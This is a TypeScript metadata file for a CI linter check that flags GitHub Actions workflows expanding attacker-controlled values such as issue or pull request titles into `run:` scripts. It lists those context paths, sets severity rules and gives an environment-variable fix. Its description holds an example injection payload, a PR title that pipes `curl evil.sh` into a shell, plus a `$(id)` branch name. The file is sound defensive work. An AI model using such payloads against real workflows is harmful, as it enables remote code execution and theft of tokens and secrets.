/** The metadata of ci/template-injection: data the plugin's rules list reads without loading the check (docs/decisions/0031). */
import type { CheckMeta } from '@inert/core';

/**
 * The context paths GitHub's hardening guide lists as attacker-controlled, plus the same values seen
 * through other events (review comments, discussions, `workflow_run`'s head). `inputs.*` of
 * `workflow_dispatch` are not here: only people with write access can dispatch a workflow.
 */
export const ATTACKER_CONTROLLED = [
  'github.event.issue.title',
  'github.event.issue.body',
  'github.event.pull_request.title',
  'github.event.pull_request.body',
  'github.event.pull_request.head.ref',
  'github.event.pull_request.head.label',
  'github.event.pull_request.head.repo.default_branch',
  'github.event.comment.body',
  'github.event.review.body',
  'github.event.review_comment.body',
  'github.event.discussion.title',
  'github.event.discussion.body',
  'github.event.pages.*.page_name',
  'github.event.commits.*.message',
  'github.event.commits.*.author.email',
  'github.event.commits.*.author.name',
  'github.event.head_commit.message',
  'github.event.head_commit.author.email',
  'github.event.head_commit.author.name',
  'github.event.workflow_run.head_branch',
  'github.event.workflow_run.display_title',
  'github.event.workflow_run.head_commit.message',
  'github.event.workflow_run.head_commit.author.email',
  'github.event.workflow_run.head_commit.author.name',
  'github.head_ref',
] as const;

export const templateInjectionMeta = {
  id: 'template-injection',
  question: 'pre-install-execution',
  title: 'An attacker-controlled value is expanded into a script',
  description:
    'GitHub substitutes `${{ \u2026 }}` expressions into a `run:` script (or `actions/github-script`\u2019s `script:`) as text, before the shell or Node reads it. A value an outsider writes \u2014 an issue or pull request title or body, a comment, a branch name, a commit message \u2014 then becomes code: a pull request titled `x"; curl evil.sh | sh; echo "` runs that command with the job\u2019s token and secrets. In August 2025 a pull request title expanded into a `run:` script of a `pull_request_target` workflow of Nx let the attacker take the npm publish token and publish malicious versions of nx (https://github.com/nrwl/nx/security/advisories/GHSA-cxm3-wv7p-598c). The values reported, after GitHub\u2019s hardening guide and the same values seen through other events: ' +
    ATTACKER_CONTROLLED.map((p) => `\`${p}\``).join(', ') +
    ' (`commits[0]` and `commits.*` alike). `inputs.*` of `workflow_dispatch` are not reported: only people with write access can dispatch a workflow.',
  severity: 'high',
  severityRule: [
    {
      severity: 'critical',
      when: 'an outsider can fire the workflow (`pull_request_target`, `issues`, `issue_comment`, `pull_request_review(_comment)`, `discussion(_comment)`, `workflow_run`) and the job shows secrets, a write-scoped token or an OIDC token',
    },
    {
      severity: 'high',
      when: 'an outsider can fire the workflow and no privilege is visible in the job, or the triggers are unknown (a composite action)',
    },
    {
      severity: 'low',
      when: 'only triggers whose author already controls the workflow or has write access fire it (`pull_request`, `push`, `workflow_dispatch` \u2026): still a bug, since a branch named `a$(id)` breaks the script',
    },
  ],
  confidence: 'high',
  messages: {
    run: '`{expression}` is expanded into the `run:` script of job {job} as text, and {value} is written by {author}{evidence}',
    script:
      '`{expression}` is expanded into the github-script `script:` of job {job} as JavaScript source, and {value} is written by {author}{evidence}',
  },
  remediation:
    'Pass the value through the environment and quote it: `env: { TITLE: ${{ github.event.pull_request.title }} }` and `run: echo "$TITLE"` (in github-script, read `context.payload` or `process.env.TITLE`). The shell then sees a variable, never code.',
  limitations:
    "Bracket syntax (`github.event['issue']['title']`) and values copied into step outputs or the environment file by an earlier step are not followed. Expressions in a scalar that YAML escapes or folds are placed at the start of the scalar.",
  reads: ['ci'],
  examples: { bad: ['template-injection--titles-and-branches'], good: ['clean--injection-through-env'] },
  since: 'next',
} as const satisfies CheckMeta;
